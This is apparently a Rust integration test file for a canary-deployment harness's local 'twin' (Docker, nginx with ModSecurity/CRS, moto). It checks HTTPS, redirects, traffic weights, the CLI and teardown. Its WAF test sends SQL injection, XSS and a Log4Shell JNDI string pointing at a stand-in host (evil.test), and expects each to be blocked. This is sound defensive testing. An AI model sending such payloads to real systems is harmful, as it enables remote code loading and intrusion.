//! The local twin, part by part, with real Docker, nginx + ModSecurity + CRS and moto:
//! HTTPS with attribution headers, the HTTP redirect, WAF blocks, the seeded listener
//! weights, weight reloads changing the observed split, `twin up --env` / `twin
//! weights` / `twin down`, and the missing-prerequisite error. Every twin is torn down
//! by `stop` or `Drop`. Moving weights with a lag and `canary-starved`: `weights`; a
//! killed harness leaves nothing behind: `orphans`; every twin test's chance of a wrong
//! verdict: `operating_points`; the WAF rate rules: `waf::rate`. Twin tests hold
//! `support::serial::twin` throughout.

use std::collections::HashMap;
use std::process::Command;
use std::time::{Duration, Instant};

use harness::cli::Cli;
use harness::twin::{Twin, TwinSpec, TwinState, Weights};
use harness::{Error, run_async};

mod operating_points;
mod orphans;
mod weights;

const HARNESS: &str = env!("CARGO_BIN_EXE_harness");

use crate::support::twin_util;

use twin_util::{alive, canary_share, client, containers_of, image, listener_weights};

fn assert_gone(state: &TwinState) {
    assert!(containers_of(&state.id).is_empty(), "containers left");
    for pid in state.nginx_pids.iter().copied().chain(state.moto_pid) {
        assert!(!alive(pid), "pid {pid} still alive");
    }
    assert!(!state.dir.exists(), "{} left", state.dir.display());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twin_parts_answer_and_weights_reload() {
    let _machine = crate::support::serial::twin().await;
    let spec = TwinSpec::healthy("90/10".parse::<Weights>().unwrap(), image().await);
    let t0 = Instant::now();
    let twin = Twin::start(spec).await.unwrap();
    eprintln!("twin up in {:?}", t0.elapsed());
    let state = twin.state().clone();
    assert_eq!(state.containers.len(), 3);
    assert_eq!(containers_of(&state.id).len(), 3);
    // Every edge node runs on jemalloc where Debian's libjemalloc2 is installed
    // (scripts/setup.sh installs it).
    let jemalloc = harness::twin::edge::server::JEMALLOC;
    if std::path::Path::new(jemalloc).is_file() {
        for pid in &state.nginx_pids {
            let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
            assert!(
                maps.contains(jemalloc),
                "nginx {pid} runs without {jemalloc}"
            );
        }
    }
    let c = client(&twin);
    let url = twin.url();

    // HTTPS with the private CA, attribution headers from the app.
    let r = c.get(&url).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let variant = r.headers()["x-variant"].to_str().unwrap().to_string();
    assert!(variant == "stable" || variant == "canary", "{variant}");
    assert!(r.headers().contains_key("x-release"));
    assert_eq!(r.text().await.unwrap(), "Hello World");

    // Without the private CA the certificate is rejected (verification is on).
    let strict = reqwest::Client::builder()
        .resolve(&twin.spec().host, twin.endpoint().unwrap().resolve[0].addr)
        .build()
        .unwrap();
    assert!(strict.get(&url).send().await.is_err());

    // HTTP: 301 to HTTPS with path and query preserved.
    let http = format!("{}some/path?q=1&b=two", twin.http_url());
    let r = c.get(&http).send().await.unwrap();
    assert_eq!(r.status(), 301);
    assert_eq!(
        r.headers()["location"].to_str().unwrap(),
        format!("{url}some/path?q=1&b=two")
    );

    // WAF: blocked with 403 by the edge, never reaching a target.
    for (what, req) in [
        ("sqli", c.get(format!("{url}?id=%27%20OR%20%271%27%3D%271"))),
        (
            "xss",
            c.get(format!("{url}?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        ),
        (
            "log4shell",
            c.get(&url)
                .header("X-Api-Version", "${jndi:ldap://evil.test/a}"),
        ),
    ] {
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), 403, "{what}");
        assert!(
            !r.headers().contains_key("x-variant"),
            "{what} reached a target"
        );
    }
    // A benign header with a dollar sign is not blocked.
    let r = c
        .get(&url)
        .header("X-Note", "costs ${5}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);

    // Control plane: moto returns the seeded weights.
    let elb = aws_sdk_elasticloadbalancingv2::Client::new(twin.sdk_config().unwrap());
    let l = elb
        .describe_listeners()
        .listener_arns(&twin.seeded().listener_arn)
        .send()
        .await
        .unwrap();
    let fwd = l.listeners()[0].default_actions()[0]
        .forward_config()
        .unwrap();
    let mut weights: Vec<(String, i32)> = fwd
        .target_groups()
        .iter()
        .map(|tg| {
            (
                tg.target_group_arn().unwrap().to_string(),
                tg.weight().unwrap(),
            )
        })
        .collect();
    weights.sort_by_key(|w| -w.1);
    assert_eq!(
        weights[0],
        (twin.seeded().stable_target_group_arn.clone(), 90)
    );
    assert_eq!(
        weights[1],
        (twin.seeded().canary_target_group_arn.clone(), 10)
    );

    // Reloading the edge's weights changes the observed split (loose bounds, > 6 sd).
    let before = canary_share(&c, &url, 400).await;
    assert!(before < 0.2, "90/10 edge gave canary share {before}");
    twin.set_edge_weights(50, 50).await.unwrap();
    let after = canary_share(&c, &url, 400).await;
    assert!((0.35..=0.65).contains(&after), "50/50 edge gave {after}");
    assert!(matches!(
        twin.set_edge_weights(0, 0).await,
        Err(Error::Config(_))
    ));

    let t1 = Instant::now();
    twin.stop().await.unwrap();
    eprintln!("twin down in {:?}", t1.elapsed());
    assert_gone(&state);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twin_up_env_and_down_stop_everything() {
    let _machine = crate::support::serial::twin().await;
    let image = image().await;
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("state");
    let out = Command::new(HARNESS)
        .args(["twin", "up", "--env", "--weights", "50/50", "--state-dir"])
        .arg(&dir)
        .env("HARNESS_APP_IMAGE", &image)
        .output()
        .unwrap();
    // Whatever happens next, stop what `up` started.
    struct Down(std::path::PathBuf);
    impl Drop for Down {
        fn drop(&mut self) {
            let _ = Command::new(HARNESS)
                .args(["twin", "down", "--state-dir"])
                .arg(&self.0)
                .status();
        }
    }
    let _guard = Down(dir.clone());
    assert!(
        out.status.success(),
        "twin up failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    let env: HashMap<String, String> = stdout
        .lines()
        .map(|l| {
            let (k, v) = l
                .split_once('=')
                .unwrap_or_else(|| panic!("not NAME=value: {l}"));
            (k.to_string(), v.trim_matches('\'').to_string())
        })
        .collect();
    for k in [
        "TWIN_URL",
        "TWIN_HTTP_URL",
        "TWIN_HOST",
        "TWIN_RESOLVE",
        "TWIN_CA_FILE",
        "TWIN_DIR",
        "AWS_ENDPOINT_URL",
        "AWS_REGION",
        "AWS_PROFILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "TWIN_LISTENER_ARN",
        "TWIN_CLUSTER",
        "TWIN_STABLE_SERVICE",
        "TWIN_CANARY_SERVICE",
    ] {
        assert!(
            env.get(k).is_some_and(|v| !v.is_empty()),
            "{k} missing in:\n{stdout}"
        );
    }
    assert!(!stdout.contains("twin-secret-key"), "credentials printed");

    // The twin outlived `up` and answers through the printed environment.
    let resolve: Vec<String> = env["TWIN_RESOLVE"].split(' ').map(str::to_string).collect();
    assert_eq!(resolve.len(), 2);
    let ep = harness::endpoint::Endpoint::new(
        &env["TWIN_URL"],
        Some(&env["TWIN_HTTP_URL"]),
        &resolve,
        Some(std::path::Path::new(&env["TWIN_CA_FILE"])),
    )
    .unwrap();
    let c = ep.client_builder().unwrap().build().unwrap();
    let r = c.get(ep.url.clone()).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.headers().contains_key("x-variant"));

    let state = TwinState::load(&dir).unwrap();
    assert!(state.detached);
    assert_eq!(containers_of(&state.id).len(), 3);
    // One nginx per availability zone of shared-infra, each alive.
    let zones = crate::support::node_oc::edge_nodes();
    assert_eq!(state.nginx_pids.len(), zones);
    assert!(state.nginx_pids.iter().all(|p| alive(*p)));
    assert!(state.moto_pid.is_some_and(alive) && state.moto_port.is_some());

    // `twin weights` moves moto and the edge of the detached twin: 100/0 sends the
    // canary nothing (0 of 200 at 50/50 would have probability 0.5^200 ≈ 6e-61).
    let moved = Command::new(HARNESS)
        .args(["twin", "weights", "100/0", "--edge-lag", "0", "--state-dir"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(
        moved.status.success(),
        "twin weights failed: {}",
        String::from_utf8_lossy(&moved.stderr)
    );
    let sdk = harness::aws::load(&harness::aws::AwsOptions {
        endpoint_url: Some(env["AWS_ENDPOINT_URL"].clone()),
        region: Some(env["AWS_REGION"].clone()),
        profile: Some(env["AWS_PROFILE"].clone()),
        credentials_file: Some(env["AWS_SHARED_CREDENTIALS_FILE"].clone().into()),
    })
    .await
    .unwrap();
    assert_eq!(
        listener_weights(&sdk, &env["TWIN_LISTENER_ARN"]).await,
        (100, 0)
    );
    let c = ep.client_builder().unwrap().build().unwrap();
    assert_eq!(canary_share(&c, ep.url.as_str(), 200).await, 0.0);

    // A second `up` on the same folder is refused while the first is alive.
    let again = Command::new(HARNESS)
        .args(["twin", "up", "--state-dir"])
        .arg(&dir)
        .env("HARNESS_APP_IMAGE", &image)
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(2));

    let down = Command::new(HARNESS)
        .args(["twin", "down", "--state-dir"])
        .arg(&dir)
        .status()
        .unwrap();
    assert!(down.success());
    assert_gone(&state);
}

#[test]
fn missing_prerequisite_is_one_line_exit_4() {
    let t0 = Instant::now();
    let out = Command::new(HARNESS)
        .args(["local", "--weights", "90/10"])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("bash scripts/setup.sh"), "{err}");

    let out = Command::new(HARNESS)
        .args(["twin", "up"])
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("Docker engine") && err.contains("scripts/setup.sh"),
        "{err}"
    );
    assert!(t0.elapsed() < Duration::from_secs(15), "{:?}", t0.elapsed());
}

#[tokio::test]
async fn bad_weights_and_faults_are_usage_errors() {
    for args in [
        vec!["harness", "local", "--weights", "90-10"],
        vec!["harness", "local", "--weights", "0/0"],
        vec!["harness", "local", "--fault", "no-such-fault"],
        vec!["harness", "twin", "up", "--weights", "1000/1"],
    ] {
        let err = run_async(<Cli as clap::Parser>::parse_from(&args))
            .await
            .unwrap_err();
        assert!(matches!(err, Error::Config(_)), "{args:?}: {err}");
        assert_eq!(err.exit_code(), 2);
    }
}

/// Teardown signals a recorded pid only while it is the twin's own process: a real
/// moto_server (from the project's venv, made by scripts/setup.sh) recorded with its
/// port is stopped; a `sleep` recorded as the twin's nginx (a pid the kernel gave to
/// another program) is left running. `twin up`/`down` above shows the same for a real
/// nginx found through its config path.
#[tokio::test]
async fn teardown_stops_only_what_the_twin_started() {
    let _machine = crate::support::serial::world().await;
    let moto = harness::twin::moto::MotoServer::start().await.unwrap();
    let pid = moto.pid().unwrap();
    let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap();
    let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
    let venv = std::env::var("HARNESS_MOTO_VENV").unwrap_or_else(|_| {
        format!(
            "{}/.cache/canary-harness/moto-venv",
            std::env::var("HOME").unwrap()
        )
    });
    assert!(
        cmdline.contains(&format!("{venv}/bin/moto_server")),
        "moto_server not taken from the venv {venv}: {cmdline}"
    );
    let mut sleep = Command::new("sleep").arg("30").spawn().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let state = TwinState {
        dir: dir.path().into(),
        nginx_pids: vec![sleep.id()],
        moto_pid: Some(pid),
        moto_port: Some(moto.port),
        ..TwinState::default()
    };
    state.teardown().unwrap();
    assert!(!alive(pid), "the twin's moto_server was not stopped");
    assert!(alive(sleep.id()), "a foreign process was signalled");
    sleep.kill().unwrap();
    sleep.wait().unwrap();
    drop(moto);
}
